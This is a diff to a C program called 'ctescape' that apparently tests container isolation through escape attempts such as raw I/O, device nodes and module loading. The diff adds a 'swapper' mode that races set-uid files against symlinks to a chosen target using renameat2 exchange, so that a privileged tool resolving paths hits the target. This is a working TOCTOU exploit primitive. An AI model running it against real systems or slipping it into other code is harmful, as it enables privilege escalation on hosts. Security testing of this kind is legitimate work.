@@ -66,7 +66,8 @@ static int blocked(void)
 static __attribute__((noreturn)) void usage(void)
 {
 	fprintf(stderr, "usage: ctescape blockdev MAJ:MIN [write] | sysctl KEY VALUE | remount PATH |\n"
-			"       sysrw [FILE] | kmsg | cgroup MARKER | module | rawio | devnodes\n");
+			"       sysrw [FILE] | kmsg | cgroup MARKER | module | rawio | devnodes |\n"
+			"       swapper DIR N TARGET (on the host, against ctshift)\n");
 	exit(2);
 }
 
@@ -555,6 +556,33 @@ static int attack_devnodes(void)
 	return blocked();
 }
 
+/* `swapper DIR N TARGET` (run on the host, as an unprivileged user, against ctshift): N set-uid
+ * files fI and N symlinks lI -> TARGET in DIR, exchanged with each other in a loop until killed,
+ * so that a tool resolving "fI" by path hits TARGET about half the time. Prints "ready" once the
+ * files exist. */
+static int swapper(int argc, char **argv)
+{
+	char a[32], b[32];
+	long n;
+
+	if (argc != 5 || chdir(argv[2]) < 0 || (n = strtol(argv[3], NULL, 10)) <= 0 || n > 100000)
+		usage();
+	for (long i = 0; i < n; i++) {
+		snprintf(a, sizeof(a), "f%ld", i);
+		snprintf(b, sizeof(b), "l%ld", i);
+		close(open(a, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
+		if (chmod(a, 04777) < 0 || symlink(argv[4], b) < 0)
+			return 2;
+	}
+	puts("ready");
+	for (;;)
+		for (long i = 0; i < n; i++) {
+			snprintf(a, sizeof(a), "f%ld", i);
+			snprintf(b, sizeof(b), "l%ld", i);
+			syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
+		}
+}
+
 int main(int argc, char **argv)
 {
 	if (argc < 2)
@@ -578,5 +606,7 @@ int main(int argc, char **argv)
 		return attack_rawio();
 	if (strcmp(argv[1], "devnodes") == 0 && argc == 2)
 		return attack_devnodes();
+	if (strcmp(argv[1], "swapper") == 0)
+		return swapper(argc, argv);
 	usage();
 }
